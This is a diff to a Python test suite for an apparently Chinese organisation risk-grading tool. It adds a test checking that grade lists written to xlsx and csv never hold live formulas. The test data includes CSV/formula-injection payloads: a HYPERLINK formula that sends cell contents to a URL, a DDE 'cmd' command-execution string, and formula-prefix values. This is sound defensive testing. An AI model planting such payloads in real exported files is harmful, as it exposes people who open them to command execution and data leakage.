@@ -14,7 +14,7 @@ from scoring.archive.store import open_store
 from scoring.cli import app
 from scoring.features.industry import GRADE_INDEX, GRADES
 from scoring.grades.grading import fit_industry
-from scoring.grades.lists import grade_list, grade_population
+from scoring.grades.lists import grade_list, grade_population, write_grade_list
 
 AS_OF = "2026-06-30"
 
@@ -267,3 +267,46 @@ def test_a_new_penalty_record_never_improves_an_organisations_grade(fitted, tmp_
             assert gb.loc[test_asof.ORG, "risk"] >= ga.loc[test_asof.ORG, "risk"] - 1e-12
 
     check()
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_grade_list_files_hold_no_formula_whatever_the_names(tmp_path, suffix):
+    """Subject names and reasons come from data: in the written list none may act as a formula."""
+    import openpyxl
+
+    hostile = [
+        '=HYPERLINK("http://127.0.0.1:9/x?"&A2,"点击")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    n = len(hostile)
+    lst = pd.DataFrame(
+        {
+            "subject_id": [f"9133070{i:02d}MA2800000X" for i in range(n)],
+            "name": hostile,
+            "grade": ["良好"] * n,
+            "risk": [0.05] * n,
+            "veto": [""] * n,
+            "sampling_ratio": [0.1] * n,
+            "previous_grade": ["良好"] * n,
+            "reason_1": hostile[::-1],
+        }
+    )
+    paths = write_grade_list(lst, tmp_path / f"list{suffix}", info={"说明": "=1+1"})
+    for p in paths:
+        if p.suffix == ".xlsx":
+            wb = openpyxl.load_workbook(p)
+            for ws in wb.worksheets:
+                for row in ws.iter_rows():
+                    for c in row:
+                        assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+            names = [c.value for c in wb["等级名单"]["B"][1:]]
+            assert all(v.lstrip("\t\r ").startswith("=") or v[0] in "+-@" for v in names)  # the text is kept
+        else:
+            for line in p.read_text(encoding="utf-8-sig").splitlines():
+                for cell in line.split(","):
+                    assert not cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r")), (p.name, cell)
